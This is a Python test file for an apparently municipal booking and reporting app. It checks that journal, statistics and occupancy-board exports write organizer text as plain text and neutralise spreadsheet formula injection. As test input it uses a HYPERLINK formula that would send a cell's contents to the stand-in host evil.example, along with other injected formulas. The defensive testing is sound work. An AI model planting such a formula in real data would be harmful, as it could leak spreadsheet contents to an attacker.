"""Every export writes organizer text as text (issue 21 item 3): no XLSX cell is a formula, and CSV cells that
start with =, +, -, @ (or tab/CR) carry the apostrophe that makes a spreadsheet show them as text."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from pathlib import Path

from openpyxl import load_workbook

from akimat_desk.services.kernel.cell_safety import csv_text
from akimat_desk.services.kernel.context import ServiceContext
from akimat_desk.services.places import catalogue as svc
from akimat_desk.services.places.occupancy import board_csv, build_board
from akimat_desk.services.reports.journal import build_journal, write_journal
from akimat_desk.services.reports.statistics import compute_statistics, write_statistics
from tests.places.conftest import PERSON, add_square, filing

MARCH = (date(2026, 3, 1), date(2026, 3, 31))
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def no_formula_in(path: Path) -> None:
    with zipfile.ZipFile(path) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in book.read(name) and b"<f " not in book.read(name), name
    values = [c for row in load_workbook(path).active.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in values)


def test_csv_rule_on_every_leading_formula_character() -> None:
    for text in ("=1+1", "+7 701", "-2", "@SUM(A1)", "\tx", "\rx", "＝1"):
        assert csv_text(text) == "'" + text
    assert csv_text("Сәрсенбаев") == "Сәрсенбаев" and csv_text(-3) == -3 and csv_text(None) == ""


def test_journal_xlsx_and_csv_keep_formulas_as_text(ctx: ServiceContext, tmp_path: Path) -> None:
    organizer = dict(PERSON, surname="@SUM(1+1)")
    filing(ctx, purpose=LINK, organizer=organizer)
    journal = build_journal(ctx, *MARCH, "ru")
    write_journal(journal, "ru", xlsx=tmp_path / "j.xlsx", csv_path=tmp_path / "j.csv")
    no_formula_in(tmp_path / "j.xlsx")
    cells = [c.value for row in load_workbook(tmp_path / "j.xlsx").active.iter_rows() for c in row]
    assert any(isinstance(v, str) and LINK in v for v in cells)
    rows = list(csv.reader(io.StringIO((tmp_path / "j.csv").read_text("utf-8-sig"))))
    flat = [cell for row in rows for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in flat)
    assert "'@SUM(1+1)" in " ".join(flat)


def test_statistics_xlsx_keeps_a_place_name_formula_as_text(ctx: ServiceContext, tmp_path: Path) -> None:
    evil = add_square(ctx, name_ru=LINK, name_kk=LINK, district="=1+2")
    f = filing(ctx)
    svc.link_place(ctx, f.id, evil)
    table = compute_statistics(ctx, *MARCH, ["district", "form"])
    write_statistics(table, "ru", xlsx=tmp_path / "s.xlsx")
    no_formula_in(tmp_path / "s.xlsx")
    values = [c.value for row in load_workbook(tmp_path / "s.xlsx").active.iter_rows() for c in row]
    assert "=1+2" in values


def test_board_csv_neutralises_a_booking_title(ctx: ServiceContext) -> None:
    square = add_square(ctx, name_ru="-Площадь")
    svc.book_place(
        ctx,
        square,
        {
            "kind": "cultural",
            "title": LINK,
            "starts_at": "2026-03-20T15:00",
            "ends_at": "2026-03-20T18:00",
            "expected_participants": "20",
        },
    )
    rows = list(csv.reader(io.StringIO(board_csv(build_board(ctx, date(2026, 3, 20), date(2026, 3, 20)), "ru"))))
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert rows[1][0] == "'-Площадь"
